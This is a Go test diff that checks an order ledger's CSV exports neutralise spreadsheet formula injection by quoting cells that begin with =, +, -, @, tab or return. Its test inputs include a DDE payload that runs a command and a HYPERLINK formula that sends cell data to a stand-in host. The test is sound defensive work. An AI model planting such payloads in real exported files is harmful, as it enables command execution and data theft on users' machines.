@@ -204,3 +204,99 @@ func TestWriteResultsFile(t *testing.T) {
 		t.Errorf("files left after a failure: %v", files)
 	}
 }
+
+// TestCSVFormulaInjection: cells a spreadsheet would evaluate as a formula
+// (OrderIds, messages, sources from a shop's export) are written with a
+// leading "'", in the results file and in the export alike; other cells
+// and the JSON lines are written as they are.
+func TestCSVFormulaInjection(t *testing.T) {
+	hostile := []string{`=cmd|' /C calc'!A0`, "+1", "@SUM(A1)", `=HYPERLINK("http://x.example/?d="&A1,"click")`, "-2+3", "\tx", "\rx"}
+	benign := []string{"O-1", "a=b", "1+2", " =space first", "'quoted"}
+	// The rule, as OWASP states it, applied to the fields of want.
+	quote := func(s string) string {
+		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+			return "'" + s
+		}
+		return s
+	}
+	l := tempLedger(t)
+	want := map[string]Result{} // by the order cell
+	stored := []string{}        // the OrderIds as stored
+	for i, id := range append(append([]string{}, hostile...), benign...) {
+		e := pipeline.Entry{Key: pipeline.Key{EventType: "7", OrderID: id}, State: pipeline.StateRejected, RunID: "r1",
+			HTTPStatus: 400, Messages: []pipeline.Message{{Text: id}}, Refs: []pipeline.Ref{{Object: id, Line: int64(i + 1)}}}
+		mustPut(t, l, e)
+		r := ResultOf(e)
+		r.Order, r.Messages, r.Source = quote(r.Order), quote(r.Messages), quote(r.Source)
+		if i < len(hostile) && (r.Order[0] != '\'' || r.Source[0] != '\'') {
+			t.Fatalf("the test's rule leaves %q alone", id)
+		}
+		want[r.Order] = r
+		stored = append(stored, id)
+	}
+	mustPut(t, l, pipeline.Entry{Key: pipeline.Key{EventType: "=1+1", OrderID: "-k"}, State: pipeline.StateSkipped, RunID: "r1",
+		SubmissionID: "@sub"})
+	want["'-k"] = Result{Key: "'=1+1/-k", Order: "'-k", State: "skipped", SubmissionID: "'@sub"}
+	stored = append(stored, "-k")
+
+	var exported bytes.Buffer
+	if err := WriteCSV(t.Context(), &exported, l, pipeline.Filter{}); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "results.csv")
+	if err := WriteResultsFile(t.Context(), l, path, "r1"); err != nil {
+		t.Fatal(err)
+	}
+	results, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, b := range map[string][]byte{"ledger export": exported.Bytes(), "results file": results} {
+		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if len(recs) != len(want)+1 {
+			t.Fatalf("%s: %d lines, want %d and the header", name, len(recs)-1, len(want))
+		}
+		for _, rec := range recs[1:] {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would be evaluated by a spreadsheet", name, cell)
+				}
+			}
+			w, ok := want[rec[1]]
+			got := Result{Key: rec[0], Order: rec[1], Source: rec[2], State: rec[3], HTTPStatus: rec[4], Messages: rec[5], SubmissionID: rec[6]}
+			if !ok || got != w {
+				t.Errorf("%s: line %q,\nwant %+v", name, rec, w)
+			}
+		}
+	}
+	checkJSONLExact(t, l, stored)
+}
+
+// checkJSONLExact checks that the JSON lines of l hold each of the
+// OrderIds as stored, and each entry's message, unescaped.
+func checkJSONLExact(t *testing.T, l *Ledger, orderIDs []string) {
+	t.Helper()
+	var jl bytes.Buffer
+	if err := WriteJSONL(t.Context(), &jl, l, pipeline.Filter{}); err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]bool{}
+	for line := range strings.SplitSeq(strings.TrimSpace(jl.String()), "\n") {
+		var e pipeline.Entry
+		if err := json.Unmarshal([]byte(line), &e); err != nil {
+			t.Fatal(err)
+		}
+		seen[e.Key.OrderID] = true
+		if len(e.Messages) > 0 && e.Messages[0].Text != e.Key.OrderID {
+			t.Errorf("jsonl message %q, want %q", e.Messages[0].Text, e.Key.OrderID)
+		}
+	}
+	for _, id := range orderIDs {
+		if !seen[id] {
+			t.Errorf("jsonl lacks the OrderId %q as stored", id)
+		}
+	}
+}
